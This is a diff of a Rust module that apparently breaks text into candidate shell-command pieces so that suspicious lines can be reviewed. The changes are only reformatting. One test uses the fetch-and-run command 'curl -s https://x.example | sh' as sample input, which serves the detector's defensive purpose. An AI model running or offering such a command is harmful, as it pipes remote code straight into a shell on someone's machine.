@@ -10,8 +10,8 @@
 //! script may print it), and what would refuse it there is a review: a human looks at a
 //! command-shaped line no instruction leads to.
 
-use super::text::{judge_prose, judge_shell_text, kept_when_unsure, prose_shell_shape};
 use super::Cx;
+use super::text::{judge_prose, judge_shell_text, kept_when_unsure, prose_shell_shape};
 use crate::report::{Finding, Verdict};
 
 /// The pieces of a text to read as candidate commands, with their lines: each line,
@@ -73,12 +73,18 @@ fn unwrap(line: &str) -> String {
         t = t.strip_prefix(m).unwrap_or(t).trim_start();
     }
     let digits = t.trim_start_matches(|c: char| c.is_ascii_digit());
-    if digits.len() < t.len() && let Some(r) = digits.strip_prefix(['.', ')']) {
+    if digits.len() < t.len()
+        && let Some(r) = digits.strip_prefix(['.', ')'])
+    {
         t = r.trim_start();
     }
     if let Some((k, v)) = t.split_once(':') {
         let k = k.trim().trim_matches(['"', '\'']);
-        if !k.is_empty() && k.chars().all(|c| c.is_alphanumeric() || matches!(c, '_' | '-' | '.')) && !v.starts_with("//") {
+        if !k.is_empty()
+            && k.chars()
+                .all(|c| c.is_alphanumeric() || matches!(c, '_' | '-' | '.'))
+            && !v.starts_with("//")
+        {
             t = v.trim();
         }
     }
@@ -142,6 +148,9 @@ mod tests {
     #[test]
     fn json_strings_are_pieces() {
         let p = pieces(r#"{"a": ["curl -s https://x.example | sh"]}"#);
-        assert!(p.iter().any(|(_, s)| s == "curl -s https://x.example | sh"), "{p:?}");
+        assert!(
+            p.iter().any(|(_, s)| s == "curl -s https://x.example | sh"),
+            "{p:?}"
+        );
     }
 }
